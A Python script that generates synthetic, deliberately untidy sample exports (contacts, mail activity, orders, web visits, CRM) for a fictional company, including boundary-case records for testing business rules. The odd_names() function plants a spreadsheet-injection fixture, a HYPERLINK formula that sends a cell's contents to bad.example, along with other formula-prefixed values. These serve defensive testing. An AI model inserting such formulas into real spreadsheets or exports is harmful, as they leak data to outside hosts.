"""Make the sample exports: a year and a half at Quillfern Software, a company that does not exist.

`python sample_data/make.py` rewrites the files of the folder it lies in. Everything is drawn from one seed,
and nothing from the clock, so every run writes the same files: what the examples say about
these files stays true.

The files are as untidy as exports are. Addresses come padded and in capitals, people appear twice, states are
missing, dates are written in three styles, cells are broken, the months of the mail export overlap, and some
events belong to nobody. The people called "edge" stand exactly on the boundary of a rule (25 years old today,
a click thirty days ago to the second), one on either side of it.

Left out on purpose: anything real. Addresses use the names reserved for examples, and phone numbers the range
kept for fiction.
"""

import csv
import re
import unicodedata
import zipfile
from collections.abc import Iterable, Sequence
from dataclasses import dataclass, field, replace
from datetime import UTC, date, datetime, timedelta, timezone
from pathlib import Path
from random import Random
from typing import TypeVar

from openpyxl import Workbook

SEED = "quillfern"
TODAY = date(2026, 6, 30)
NOW = datetime(2026, 6, 30, 22, tzinfo=UTC)
"""18:00 in New York: the `as_of` of the example. The exports were pulled some hours later."""
SUMMER = timezone(timedelta(hours=-4))
"""New York from March to November; the website's export lies within it."""
SITE = "https://quillfern.example"

Row = Sequence[object]
T = TypeVar("T")


@dataclass(frozen=True)
class Person:
    """A contact as the company knows them, and the habits their events are drawn from."""

    email: str
    first: str
    last: str
    title: str = ""
    company: str = ""
    state: str = ""
    country: str = "United States"
    languages: str = "English"
    gender: str = ""
    birthday: str = ""
    tags: str = ""
    phone: str = ""
    zip: str = ""
    plan: str = "Free"
    trial_ends: str = ""
    signed_up: date = date(2025, 3, 3)
    mood: str = "silent"
    """How they take mail: `fan`, `regular`, `sleepy`, `lapsed` (until March), or `silent` (never mailed)."""
    shopping: bool = False
    """About to buy: clicks and visits the prices again and again."""
    full_mailbox: bool = False
    dead_address: bool = False
    visitor: bool = False
    customer: bool = False


@dataclass(frozen=True)
class Mail:
    """One line of the mail export, before the tool's spelling."""

    at: datetime
    email: str
    action: str
    campaign: str
    url: str = ""
    link: str = ""
    bounce: str = ""


@dataclass(frozen=True)
class Order:
    """One line item; a refund repeats the line of its order with a negative amount."""

    at: datetime
    """Wall time in New York, as the shop writes it."""
    email: str
    product: str
    quantity: int
    amount: float
    kind: str = "Purchase"
    order_id: str = ""


@dataclass(frozen=True)
class Visit:
    """One line of the website's export."""

    at: datetime
    email: str
    what: str
    page: str
    product: str = ""
    query: str = ""


@dataclass
class Crm:
    """What the sales team keeps about a contact."""

    email: str
    lead_stage: str
    opportunity_stage: str = ""
    opportunity_amount: str = ""
    sales_rep: str = ""
    sales_touch: date | None = None
    marketing_touch: date | None = None


@dataclass
class Sample:
    """Everything the files say, tidy; the mess is made while writing."""

    people: list[Person] = field(default_factory=list)
    mail: list[Mail] = field(default_factory=list)
    orders: list[Order] = field(default_factory=list)
    visits: list[Visit] = field(default_factory=list)
    crm: list[Crm] = field(default_factory=list)


def make(folder: Path) -> None:
    """Write every sample file below `folder`, whatever lay there before."""
    sample = joined([draw_sample(), edges()])
    write_contacts(folder / "contacts.csv", sample.people)
    write_activity(folder / "activity", sample.mail)
    write_orders(folder / "orders.xlsx", sample.orders)
    write_visits(folder / "web.csv", sample.visits)
    write_crm(folder / "crm.csv", sample.crm)


def draw_sample() -> Sample:
    """Draw people first and then what they did; each file from its own stream, so one may change alone."""
    people = draw_people(Random(f"{SEED} people"))
    return Sample(
        people=people,
        mail=draw_mail(Random(f"{SEED} mail"), people),
        orders=draw_orders(Random(f"{SEED} orders"), people),
        visits=draw_visits(Random(f"{SEED} web"), people),
        crm=draw_crm(Random(f"{SEED} crm"), people),
    )


# --- people ------------------------------------------------------------------------------------------------

WOMEN = (
    "Zoë Ana Maria Chloé Renée Priya Mei Aisha Olivia Emma Sofía Grace Hannah Ingrid Yuki Leila Nora Rachel "
    "Simone Thérèse Valentina Wanda Beatriz Carmen Dorothy Élodie"
)
MEN = (
    "José Liam Noah Björn Rafael Omar Wei Arjun Daniel Ethan François Günther Hugo Ivan Jamal Kenji Luis Marcus "
    "Nikolai Óscar Pavel Quentin Samuel Tomás Viktor William"
)
LAST_NAMES = (
    "Alvarez O'Neill Müller Nguyen Patel Garcia Smith-Jones Kowalski Øberg Tremblay Gagnon Côté Johnson Williams "
    "Brown Kim Lee Chen Singh Haddad Rossi Ibáñez Fernández Murphy Dubois Lefèvre Schäfer Andersson Novák Silva "
    "Walker Young King Wright Scott Torres Rivera Campbell Mitchell Roberts"
)
COMPANIES = (
    "Blue Heron, Inc.",
    '"Quick" Print Co.',
    "Harbor & Pine LLC",
    "Kestrel Freight",
    "Lumen Dental Group",
    "Maple Street Foods, Ltd.",
    "Nordlys AS",
    "Oak & Iron",
    "Pinnacle Title, LLC",
    "Red Fern Studio",
    "Sable Robotics",
    "Tandem Bicycles",
    "Umbra Lighting",
    "Vesper Hotels",
    "Willow Bank, N.A.",
    "Zephyr Outdoor",
)
TITLES = (
    ("VP of Sales", 5),
    ("Vice President, Marketing", 5),
    ("SVP Operations", 3),
    ("vice president finance", 2),
    ("Director of Marketing", 11),
    ("Marketing Manager", 16),
    ("Data Analyst", 13),
    ("CFO", 5),
    ("Owner", 9),
    ("Operations Lead", 10),
    ("Product Manager, MVP", 3),
    ("Consultant", 8),
    ("", 10),
)
STATES = (
    ("NJ", 12),
    ("New Jersey", 3),
    ("nj", 1),
    ("NY", 16),
    ("CA", 14),
    ("TX", 11),
    ("PA", 8),
    ("MA", 7),
    ("IL", 7),
    ("FL", 6),
    ("WA", 5),
    ("", 8),
    ("N/A", 2),
)
COUNTRIES = (("United States", 72), ("Canada", 13), ("Mexico", 5), ("United Kingdom", 5), ("Germany", 5))
LANGUAGES = {
    "United States": (("English", 75), ("English, Spanish", 16), ("Spanish", 4), ("English,,French", 3), ("", 2)),
    "Canada": (("English", 50), ("English, French", 27), ("French", 17), ("french, English", 2), ("", 4)),
    "Mexico": (("Spanish", 60), ("Spanish, English", 40)),
    "United Kingdom": (("English", 90), ("English, French", 10)),
    "Germany": (("German", 45), ("German, English", 50), ("German, English, French", 5)),
}
TAGS = ("Spring Webinar", "Newsletter", "VIP", '"Austin, TX roadshow"', "Beta", "Reseller")
GENDERS = {
    "woman": (("F", 60), ("Female", 25), ("female", 7), ("", 8)),
    "man": (("M", 60), ("Male", 25), ("male", 5), ("X", 2), ("", 8)),
}
MOODS = (("fan", 16), ("regular", 38), ("sleepy", 22), ("lapsed", 16), ("silent", 8))
PLANS = (("Free", 45), ("Trial", 17), ("Pro", 28), ("Enterprise", 10))
BROKEN_BIRTHDAYS = ("31/02/1990", "00/00/0000", "unknown", "1985", "#REF!")
AREA_CODES = (201, 212, 312, 415, 512, 617, 973)


def pick(rng: Random, weighted: Sequence[tuple[T, int]]) -> T:
    """Draw one of the values by its weight."""
    return rng.choices([value for value, _ in weighted], [weight for _, weight in weighted])[0]


def draw_people(rng: Random) -> list[Person]:
    """Nineteen hundred people, no two with the same address, in the order they signed up."""
    taken: set[str] = set()
    people = [draw_person(rng, taken) for _ in range(1900)]
    return sorted(people, key=lambda person: (person.signed_up, person.email))


def draw_person(rng: Random, taken: set[str]) -> Person:
    """Draw one person; the address follows the name, with a number if somebody has it already."""
    sex = rng.choice(["woman", "man"])
    first, last = rng.choice((WOMEN if sex == "woman" else MEN).split()), rng.choice(LAST_NAMES.split())
    country, plan, mood = pick(rng, COUNTRIES), pick(rng, PLANS), pick(rng, MOODS)
    american = country == "United States"
    state = pick(rng, STATES) if american else ""
    return Person(
        email=draw_address(rng, first, last, taken),
        first=first,
        last=last,
        title=pick(rng, TITLES),
        company=rng.choice(COMPANIES),
        state=state,
        country=country,
        languages=pick(rng, LANGUAGES[country]),
        gender=pick(rng, GENDERS[sex]),
        birthday=draw_birthday(rng),
        tags=", ".join(rng.sample(TAGS, k=pick(rng, ((0, 55), (1, 30), (2, 12), (3, 3))))),
        phone=draw_phone(rng) if rng.random() < 0.7 else "",
        zip=draw_zip(rng, state) if american else "",
        plan=plan,
        trial_ends=(TODAY + timedelta(days=rng.randrange(-6, 9))).isoformat() if plan == "Trial" else "",
        signed_up=date(2023, 1, 9) + timedelta(days=rng.randrange(1260)),
        mood=mood,
        shopping=mood in ("fan", "regular") and rng.random() < 0.16,
        full_mailbox=rng.random() < 0.035,
        dead_address=rng.random() < 0.025,
        visitor=rng.random() < 0.42,
        customer=plan in ("Pro", "Enterprise") or rng.random() < 0.05,
    )


def draw_address(rng: Random, first: str, last: str, taken: set[str]) -> str:
    """Build an address from a name as people do: without accents, and numbered when the plain one is gone."""
    host = rng.choice(["heron.example", "kestrel.example", "mail.example", "example.com", "example.org"])
    name = plain(f"{first}.{last}")
    number = 1
    while (address := f"{name}{number if number > 1 else ''}@{host}") in taken:
        number += 1
    taken.add(address)
    return address


def plain(text: str) -> str:
    """Fold a name to lower-case ASCII letters, dots and hyphens."""
    letters = unicodedata.normalize("NFKD", text.lower().replace("ø", "o"))
    return re.sub(r"[^a-z.\-]", "", letters)


def draw_birthday(rng: Random) -> str:
    """Day first, as the sign-up form writes it; some left it out, and a few cells are broken."""
    chance = rng.random()
    if chance < 0.005:
        return rng.choice(BROKEN_BIRTHDAYS)
    if chance < 0.12:
        return ""
    return f"{date(1952, 1, 1) + timedelta(days=rng.randrange(20_000)):%d/%m/%Y}"


def draw_phone(rng: Random) -> str:
    """Two spellings of a number, both from the range that is never connected."""
    area, line = rng.choice(AREA_CODES), rng.randrange(100, 200)
    return f"+1 {area} 555 0{line}" if rng.random() < 0.6 else f"({area}) 555-0{line}"


def draw_zip(rng: Random, state: str) -> str:
    """Five digits; those of New Jersey and Massachusetts begin with a zero."""
    first = {"NJ": 7, "New Jersey": 7, "nj": 7, "MA": 1}.get(state, rng.randrange(10, 99))
    return f"{first:02d}{rng.randrange(1000):03d}"


# --- e-mail ------------------------------------------------------------------------------------------------

THEMES = (
    ("Newsletter", "/blog", "Read on"),
    ("Beacon tour", "/products/beacon", "Meet Beacon"),
    ("Offer", "/pricing", "See plans"),
    ("Customer story", "/stories", "Their story"),
)
FIRST_TUESDAY = datetime(2026, 1, 6, 14, tzinfo=UTC)
SENT_TO = {"fan": 0.32, "regular": 0.27, "sleepy": 0.21, "lapsed": 0.21, "silent": 0.0}
OPENS = {"fan": 0.85, "regular": 0.58, "sleepy": 0.04, "lapsed": 0.55, "silent": 0.0}
MAIL_ENDS = datetime(2026, 7, 1, tzinfo=UTC)


def draw_mail(rng: Random, people: Sequence[Person]) -> list[Mail]:
    """Half a year of weekly campaigns, and some mail to people nobody knows any more."""
    mail = [event for person in people for event in mail_to(rng, person)]
    strangers = [f"former.contact{number}@mail.example" for number in range(25)]
    for address in strangers:
        stranger = Person(address, "", "", mood="fan")
        mail.extend(mail_to(rng, stranger)[:8])
    return [event for event in mail if event.at < MAIL_ENDS]


def mail_to(rng: Random, person: Person) -> list[Mail]:
    """Send one person the campaigns of the half year until they bounce hard or unsubscribe."""
    events: list[Mail] = []
    for week in range(26):
        if rng.random() < SENT_TO[person.mood]:
            events.extend(one_mail(rng, person, week))
            if events[-1].action == "unsubscribe" or events[-1].bounce == "hard":
                break
    return events


def one_mail(rng: Random, person: Person, week: int) -> list[Mail]:
    """One campaign mail to one person and everything that came of it, in order."""
    campaign = f"W{week + 1:02d} {THEMES[week % 4][0]}"
    sent = FIRST_TUESDAY + timedelta(weeks=week, seconds=rng.randrange(1800))
    events = [Mail(sent, person.email, "sent", campaign)]
    bounce = draw_bounce(rng, person)
    if bounce:
        returned = sent + timedelta(seconds=rng.randrange(2, 90))
        return [*events, Mail(returned, person.email, "bounce", campaign, bounce=bounce)]
    opens = 0.02 if person.mood == "lapsed" and week > 11 else OPENS[person.mood]
    if rng.random() < opens:
        events.extend(reading(rng, person, week, sent + timedelta(minutes=rng.randrange(1, 2800))))
    if rng.random() < 0.006:
        events.append(Mail(events[-1].at + timedelta(minutes=3), person.email, "unsubscribe", campaign))
    return events


def draw_bounce(rng: Random, person: Person) -> str:
    """Tell how the mail came back: `hard`, `soft`, or not at all."""
    if person.dead_address and rng.random() < 0.4:
        return "hard"
    return "soft" if rng.random() < (0.75 if person.full_mailbox else 0.004) else ""


def reading(rng: Random, person: Person, week: int, opened: datetime) -> list[Mail]:
    """Open a mail, perhaps twice; perhaps click, perhaps answer."""
    campaign = f"W{week + 1:02d} {THEMES[week % 4][0]}"
    events = [Mail(opened, person.email, "open", campaign)]
    if rng.random() < 0.25:
        events.append(Mail(opened + timedelta(minutes=rng.randrange(5, 900)), person.email, "open", campaign))
    for click in range(pick(rng, ((1, 60), (2, 40))) if person.shopping else int(rng.random() < 0.3)):
        path, link = draw_link(rng, person, week)
        at = opened + timedelta(seconds=20 + 45 * click + rng.randrange(40))
        events.append(Mail(at, person.email, "click", campaign, f"{SITE}{path}?w={week + 1}", link))
    if rng.random() < 0.018:
        events.append(Mail(events[-1].at + timedelta(minutes=12), person.email, "reply", campaign))
    return events


def draw_link(rng: Random, person: Person, week: int) -> tuple[str, str]:
    """Choose the link: the theme's own, or the prices at the foot of every mail."""
    if rng.random() < (0.7 if person.shopping else 0.12):
        return "/pricing", "See plans"
    return THEMES[week % 4][1:]


# --- shop, website, sales team -----------------------------------------------------------------------------

CATALOG = {
    "Beacon": ("Analytics", 24),
    "Atlas": ("Mapping", 19),
    "Ledger": ("Finance", 35),
    "Onboarding": ("Services", 90),
}
REPS = ("Dana Whitfield", "Marcus Reyes", "Priya Raman", "Tom Okafor", "Ingrid Sæther")
LEAD_STAGES = (
    ("New", 18),
    ("Contacted", 22),
    ("Qualified", 17),
    ("Opportunity", 13),
    ("Customer", 24),
    ("Disqualified", 6),
)
OPPORTUNITY_STAGES = ("Discovery", "Proposal", "Negotiation")
PAGES = (
    ("/", 30),
    ("/blog/close-the-books", 14),
    ("/products/atlas", 12),
    ("/products/ledger", 12),
    ("/products/beacon", 7),
    ("/docs", 18),
    ("/pricing", 7),
)
SEARCHES = ("export to excel", "atlas api", "beacon dashboards", "invoice template", "single sign-on", "Beacon")


def draw_orders(rng: Random, people: Sequence[Person]) -> list[Order]:
    """Orders of the customers, numbered as they came, each line item a row."""
    baskets = [basket for person in people if person.customer for basket in baskets_of(rng, person)]
    baskets.extend([Order(datetime(2026, 2, 2, 11), "walk.in@mail.example", "Atlas", 1, 19.0)] for _ in range(4))
    baskets.sort(key=lambda basket: (basket[0].at, basket[0].email))
    numbered = enumerate(baskets, start=10001)
    return [replace(line, order_id=f"Q{number}") for number, basket in numbered for line in basket]


def baskets_of(rng: Random, person: Person) -> list[list[Order]]:
    """Draw the orders of one customer over eighteen months."""
    count = pick(rng, ((1, 46), (2, 27), (3, 14), (4, 8), (6, 5)))
    return [draw_basket(rng, person.email) for _ in range(count)]


def draw_basket(rng: Random, email: str) -> list[Order]:
    """One order of one to three line items; now and then a line is refunded within three weeks."""
    day = datetime(2025, 1, 2) + timedelta(days=rng.randrange(544))
    at = day.replace(hour=rng.randrange(8, 18), minute=rng.randrange(60), second=rng.randrange(60))
    products = rng.sample(sorted(CATALOG), k=pick(rng, ((1, 35), (2, 40), (3, 25))))
    lines = [draw_line(rng, at, email, product) for product in products]
    if rng.random() < 0.11:
        back = min(at + timedelta(days=rng.randrange(1, 21), hours=1), datetime(2026, 6, 30, 12))
        lines.append(replace(lines[0], at=max(back, at), amount=-lines[0].amount, kind="Refund"))
    return lines


def draw_line(rng: Random, at: datetime, email: str, product: str) -> Order:
    """One line item: so many seats at the list price, ten per cent off for five or more."""
    quantity = pick(rng, ((1, 45), (2, 25), (3, 14), (5, 12), (10, 4)))
    price = CATALOG[product][1] * (0.9 if quantity >= 5 else 1.0)
    return Order(at, email, product, quantity, round(quantity * price - 0.05, 2))


def draw_visits(rng: Random, people: Sequence[Person]) -> list[Visit]:
    """What known visitors did on the website since the middle of March, and a few whom nobody knows."""
    visits = [visit for person in people if person.visitor for visit in sessions_of(rng, person)]
    for number in range(30):
        name = "" if number % 2 else f"guest{number}@mail.example"
        visits.append(Visit(draw_moment(rng), name, "Page view", pick(rng, PAGES)))
    return visits


def draw_moment(rng: Random) -> datetime:
    """A moment of the last hundred days, daytime in New York, until some hours after `NOW`."""
    day = datetime(2026, 3, 22, 8, tzinfo=SUMMER) + timedelta(days=rng.randrange(101))
    return day + timedelta(seconds=rng.randrange(12 * 3600))


def sessions_of(rng: Random, person: Person) -> list[Visit]:
    """One to three visits to the site, a few pages each; those about to buy look at the prices."""
    visits: list[Visit] = []
    for _ in range(rng.randrange(1, 4)):
        at = draw_moment(rng)
        if person.shopping:
            visits.append(Visit(at, person.email, "Page view", "/pricing"))
        for step in range(1, rng.randrange(2, 5)):
            visits.append(draw_step(rng, person.email, at + timedelta(seconds=50 * step)))
    return visits


def draw_step(rng: Random, email: str, at: datetime) -> Visit:
    """One thing done on the site: mostly a page, sometimes a form, a search or a download."""
    what = pick(rng, (("Page view", 84), ("Form submitted", 5), ("Search", 6), ("Download", 5)))
    if what == "Form submitted":
        return Visit(at, email, what, rng.choice(["/contact", "/demo"]))
    if what == "Search":
        return Visit(at, email, what, "/search", query=rng.choice(SEARCHES))
    if what == "Download":
        return Visit(at, email, what, "/downloads", product=rng.choice(["Atlas", "Beacon", "Ledger"]))
    return Visit(at, email, what, pick(rng, PAGES))


def draw_crm(rng: Random, people: Sequence[Person]) -> list[Crm]:
    """The sales team keeps six in ten, and a handful who are in no contacts export."""
    known = [draw_lead(rng, person.email) for person in people if rng.random() < 0.61]
    return known + [draw_lead(rng, f"old.lead{number}@mail.example") for number in range(6)]


def draw_lead(rng: Random, email: str) -> Crm:
    """Draw one lead; only opportunities have a stage and an amount of their own."""
    stage = pick(rng, LEAD_STAGES)
    sales, marketing = rng.randrange(1, 110), rng.randrange(1, 150)
    lead = Crm(
        email,
        stage,
        sales_rep=rng.choice(REPS) if rng.random() < 0.94 else "",
        sales_touch=TODAY - timedelta(days=sales) if rng.random() < 0.85 else None,
        marketing_touch=TODAY - timedelta(days=marketing) if rng.random() < 0.8 else None,
    )
    if stage == "Opportunity":
        lead.opportunity_stage = rng.choice(OPPORTUNITY_STAGES)
        lead.opportunity_amount = "TBD" if rng.random() < 0.03 else str(rng.randrange(8, 240) * 50)
    return lead


# --- people on the edge of a rule --------------------------------------------------------------------------


def edges() -> Sample:
    """Collect the people who stand exactly on the boundary of one rule, on either side of it."""
    parts = [odd_names(), ages(), trials(), clicks(), silence(), bounces(), money(), recent_buyers(), touches()]
    return joined(parts)


def joined(parts: Iterable[Sample]) -> Sample:
    """Put samples together, in order."""
    whole = Sample()
    for part in parts:
        whole.people.extend(part.people)
        whole.mail.extend(part.mail)
        whole.orders.extend(part.orders)
        whole.visits.extend(part.visits)
        whole.crm.extend(part.crm)
    return whole


def edge_address(name: str) -> str:
    """The address of the edge case of that name."""
    return f"edge.{name}@heron.example"


def edge(name: str, *, gender: str = "", birthday: str = "", plan: str = "Free", trial_ends: str = "") -> Person:
    """A person of whom nothing is known but what the edge case needs."""
    last = name.replace("-", " ").capitalize()
    return Person(edge_address(name), "Edge", last, gender=gender, birthday=birthday, plan=plan, trial_ends=trial_ends)


def odd_names() -> Sample:
    """Names that a spreadsheet would take for formulas, all on the list of webinar guests."""
    guest = Person("formula.first@mail.example", "Ida", "Formula", company="Plain & Co.", tags="Spring Webinar")
    link = '=HYPERLINK("http://bad.example/?c="&A1,"Click, please")'
    people = [
        replace(guest, first=link),
        replace(guest, email="formula.company@mail.example", company="@work Staffing"),
        replace(guest, email="formula.last@mail.example", last="-Dash", company="+Plus Partners"),
        replace(guest, email="quoted.company@mail.example", company='The "Best", Inc.', tags="SPRING WEBINAR"),
    ]
    return Sample(people=people)


def ages() -> Sample:
    """Women on the birthdays at which 25 and 45 begin and end."""
    people = [
        edge("turned-25-today", gender="F", birthday="30/06/2001"),
        edge("turns-25-tomorrow", gender="F", birthday="01/07/2001"),
        edge("turns-46-tomorrow", gender="Female", birthday="01/07/1980"),
        edge("turned-46-today", gender="Female", birthday="30/06/1980"),
        edge("impossible-birthday", gender="F", birthday="31/02/1990"),
    ]
    return Sample(people=people)


def trials() -> Sample:
    """The last day of a trial is today, not yesterday or tomorrow, and only while it is a trial."""
    people = [
        edge("trial-ends-yesterday", plan="Trial", trial_ends="2026-06-29"),
        edge("trial-ends-today", plan="Trial", trial_ends="2026-06-30"),
        edge("trial-ends-tomorrow", plan="Trial", trial_ends="2026-07-01"),
        edge("trial-became-pro", plan="Pro", trial_ends="2026-06-30"),
    ]
    return Sample(people=people)


def clicks() -> Sample:
    """Second clicks on the prices: just inside thirty days, at the very instant they begin, and still to come."""
    second = timedelta(seconds=1)
    moments = {
        "second-click-inside": NOW - timedelta(days=30) + second,
        "second-click-at-start": NOW - timedelta(days=30),
        "second-click-later-today": NOW + second,
        "second-click-now": NOW,
    }
    first = NOW - timedelta(days=10)
    mail = [pricing_click(name, at) for name, moment in moments.items() for at in (first, moment)]
    mail.append(pricing_click("clicked-once-exported-twice", datetime(2026, 5, 31, 23, 59, 59, tzinfo=UTC)))
    return Sample([edge(name) for name in (*moments, "clicked-once-exported-twice")], mail)


def pricing_click(name: str, at: datetime) -> Mail:
    """A click on the prices by the edge case of that name."""
    return Mail(at, edge_address(name), "click", "W23 Offer", f"{SITE}/Pricing?w=23", "See plans")


def silence() -> Sample:
    """Last opened ninety days ago to the second, or one second later; and one event that has no name."""
    sent, start = NOW - timedelta(days=20), NOW - timedelta(days=90)
    opened = {"open-too-old": start, "open-just-inside": start + timedelta(seconds=1)}
    mail = [Mail(sent, edge_address(name), "sent", "W24 Customer story") for name in opened]
    mail.extend(Mail(at, edge_address(name), "open", "W13 Newsletter") for name, at in opened.items())
    mail.append(Mail(sent, edge_address("nameless-event"), "", "W24 Customer story"))
    people = [edge(name) for name in (*opened, "nameless-event", "nothing-ever", "nothing-yet")]
    mail.append(Mail(NOW + timedelta(minutes=5), edge_address("nothing-yet"), "sent", "W26 Beacon tour"))
    return Sample(people, mail)


def bounces() -> Sample:
    """Four soft bounces, and three of them with a hard one."""
    kinds = {"four-soft": ["soft"] * 4, "three-soft-one-hard": ["soft", "soft", "soft", "hard"]}
    start = NOW - timedelta(days=100)
    mail = [
        Mail(start + timedelta(weeks=week), edge_address(name), "bounce", "W12 Customer story", bounce=kind)
        for name, list_of_kinds in kinds.items()
        for week, kind in enumerate(list_of_kinds)
    ]
    return Sample([edge(name) for name in kinds], mail)


def money() -> Sample:
    """Five hundred to the cent, one cent more, and more than that until the refund."""
    at = datetime(2026, 3, 2, 9, 30)
    amounts = {
        "spent-500": [499.70, 0.10, 0.10, 0.10],
        "spent-500-01": [499.71, 0.10, 0.10, 0.10],
        "spent-600-refunded-200": [600.0, -200.0],
    }
    orders = [
        Order(at, edge_address(name), "Ledger", 1, amount, "Purchase" if amount > 0 else "Refund", f"E{name}")
        for name, list_of_amounts in amounts.items()
        for amount in list_of_amounts
    ]
    year_start = datetime(2025, 6, 30, 18)
    orders.append(Order(year_start, edge_address("spent-long-ago"), "Ledger", 20, 700.0, order_id="Elong-ago"))
    return Sample([edge(name) for name in (*amounts, "spent-long-ago")], orders=orders)


def recent_buyers() -> Sample:
    """Bought seven days ago to the second, one second later, and this instant."""
    start = datetime(2026, 6, 23, 18)
    moments = {
        "bought-at-start": start,
        "bought-just-inside": start + timedelta(seconds=1),
        "bought-now": datetime(2026, 6, 30, 18),
        "bought-this-evening": datetime(2026, 6, 30, 18, 30),
    }
    orders = [Order(at, edge_address(name), "Atlas", 1, 19.0, order_id=f"E{name}") for name, at in moments.items()]
    return Sample([edge(name) for name in moments], orders=orders)


def touches() -> Sample:
    """Leads a rep last touched on the first of the thirty days, the day before them, and never."""
    days = {"touched-29-days-ago": 29, "touched-30-days-ago": 30}
    crm = [
        Crm(edge_address(name), "Qualified", sales_rep="Tom Okafor", sales_touch=TODAY - timedelta(days=count))
        for name, count in days.items()
    ]
    crm.append(Crm(edge_address("never-touched"), "New", sales_rep="Tom Okafor"))
    return Sample([edge(name) for name in (*days, "never-touched")], crm=crm)


# --- files -------------------------------------------------------------------------------------------------

CONTACT_COLUMNS = {
    "Email Address": "email",
    "First Name": "first",
    "Last Name": "last",
    "Job Title": "title",
    "Company": "company",
    "State": "state",
    "Country": "country",
    "Languages": "languages",
    "Gender": "gender",
    "Birthday": "birthday",
    "Tags": "tags",
    "Phone": "phone",
    "Zip": "zip",
    "Plan": "plan",
    "Trial Ends": "trial_ends",
    "Signed Up": "signed_up",
}
OLD_SPELLING = {
    "sent": "Sent",
    "open": "Opened",
    "click": "Clicked",
    "reply": "Replied",
    "bounce": "Bounce",
    "unsubscribe": "Unsubscribed",
}
NEW_SPELLING = {"bounce": "bounced"}
BROKEN_TIMES = ("", "0000-00-00 00:00:00", "31/04/2026 10:00", "n/a", "2026-13-05 08:00:00")


def untidy(rng: Random, address: str) -> str:
    """Write an address as people type it: sometimes in capitals, sometimes with blanks around it."""
    spellings = ((address, 91), (address.upper(), 3), (address.title(), 3), (f" {address}", 2), (f"{address}  ", 1))
    return pick(rng, spellings)


def write_csv(path: Path, header: Sequence[str], rows: Iterable[Row], *, excel: bool = False) -> None:
    """Write a CSV; `excel` saves it as Excel does, with a byte order mark and both line-end characters."""
    path.parent.mkdir(parents=True, exist_ok=True)
    with path.open("w", encoding="utf-8-sig" if excel else "utf-8", newline="") as file:
        writer = csv.writer(file, lineterminator="\r\n" if excel else "\n")
        writer.writerow(header)
        writer.writerows(rows)


def write_contacts(path: Path, people: Sequence[Person]) -> None:
    """Write the contacts; forty-five appear first as they were before their last update."""
    rng = Random(f"{SEED} contacts.csv")
    rows = list(people)
    for place in sorted(rng.sample(range(len(people)), k=45)):
        rows[place] = replace(people[place], email=people[place].email.upper(), state="NY", plan="Free", tags="")
        rows.append(people[place])
    for _ in range(6):
        rows.insert(rng.randrange(len(rows)), replace(rng.choice(people), email=rng.choice(["", "   "])))
    cells = ([getattr(row, name) for name in CONTACT_COLUMNS.values()] for row in rows)
    write_csv(path, list(CONTACT_COLUMNS), ([untidy(rng, row[0]), *row[1:]] for row in cells))


def write_activity(folder: Path, mail: Sequence[Mail]) -> None:
    """Write a file for each month; each begins with the last rows of the month before, as exports overlap."""
    rng = Random(f"{SEED} activity")
    ordered = sorted(mail, key=lambda event: (event.at, event.email, event.action))
    rows = [activity_row(rng, number, event) for number, event in enumerate(ordered, start=1)]
    for place, broken in zip(rng.sample(range(len(rows)), k=10), BROKEN_TIMES * 2, strict=True):
        rows[place][2] = broken
    months = [f"{event.at:%Y-%m}" for event in ordered]
    header = ["message_id", "email", "timestamp", "action", "campaign", "url", "link_name", "bounce_type"]
    for month in sorted(set(months)):
        first, count = months.index(month), months.count(month)
        write_csv(folder / f"activity-{month}.csv", header, rows[max(first - 12, 0) : first + count])


def activity_row(rng: Random, number: int, event: Mail) -> list[str]:
    """One row of the mail tool, which changed its spelling in April and writes UTC without saying so."""
    old = event.at.month < 4
    action = (OLD_SPELLING if old else NEW_SPELLING).get(event.action, event.action)
    bounce = event.bounce.capitalize() if old else event.bounce
    time = f"{event.at:%Y-%m-%d %H:%M:%S}"
    return [f"m{number}", untidy(rng, event.email), time, action, event.campaign, event.url, event.link, bounce]


def write_visits(path: Path, visits: Sequence[Visit]) -> None:
    """Write the website's export, newest first, its times with the offset of New York."""
    rng = Random(f"{SEED} web.csv")
    ordered = sorted(visits, key=lambda visit: (visit.at, visit.email, visit.page), reverse=True)
    rows = ([untidy(rng, one.email), one.at.isoformat(), one.what, one.page, one.product, one.query] for one in ordered)
    write_csv(path, ["visitor_email", "at", "what", "page", "product", "query"], rows)


def write_crm(path: Path, leads: Sequence[Crm]) -> None:
    """Write the sales team's table, saved from Excel, its dates month first; nine leads were entered twice."""
    rng = Random(f"{SEED} crm.csv")
    rows = [crm_row(rng, lead) for lead in leads]
    for place in sorted(rng.sample(range(len(rows)), k=9)):
        rows.append(rows[place])
        rows[place] = crm_row(rng, Crm(leads[place].email, "New", sales_rep="Dana Whitfield"))
    rows[rng.randrange(200)][5] = "last week"
    header = ["email", "lead_stage", "opportunity_stage", "opportunity_amount", "sales_rep", "last_sales_touch"]
    write_csv(path, [*header, "last_marketing_touch"], rows, excel=True)


def crm_row(rng: Random, lead: Crm) -> list[str]:
    """One row of the sales team's table."""
    touches = [f"{day:%m/%d/%Y}" if day else "" for day in (lead.sales_touch, lead.marketing_touch)]
    deal = [lead.lead_stage, lead.opportunity_stage, lead.opportunity_amount, lead.sales_rep]
    return [untidy(rng, lead.email), *deal, *touches]


def write_orders(path: Path, orders: Sequence[Order]) -> None:
    """Write the shop's workbook: a page of notes first, then the orders, as such workbooks come."""
    rng = Random(f"{SEED} orders.xlsx")
    book = Workbook()
    notes = book.create_sheet("Notes", 0)
    notes.append(["Quillfern shop export"])
    notes.append(["One row per line item. Refunds are negative. Times are New York time."])
    sheet = book["Sheet"]
    sheet.title = "Orders"
    sheet.append(["order_id", "email", "ordered_at", "product", "category", "quantity", "amount", "kind"])
    for order in orders:
        sheet.append(order_row(rng, order))
    for place, text in ((57, "?"), (911, "see invoice")):
        sheet.cell(row=place, column=7).value = text
    sheet.cell(row=1204, column=3).value = "soon"
    book.properties.creator = "Quillfern shop"
    book.properties.created = datetime(2026, 7, 1)
    path.parent.mkdir(parents=True, exist_ok=True)
    book.save(path)
    freeze(path)


def order_row(rng: Random, order: Order) -> list[object]:
    """One row of the shop's sheet."""
    category = CATALOG[order.product][0]
    what = [order.product, category, order.quantity, order.amount, order.kind]
    return [order.order_id, untidy(rng, order.email), order.at, *what]


def freeze(path: Path) -> None:
    """Rewrite a workbook so that the same cells are always the same bytes.

    The times of saving are taken out. What is left to differ is the compression, where another machine has
    another zlib; the parts inside are the same.
    """
    with zipfile.ZipFile(path) as saved:
        parts = {name: saved.read(name) for name in saved.namelist()}
    core = "docProps/core.xml"
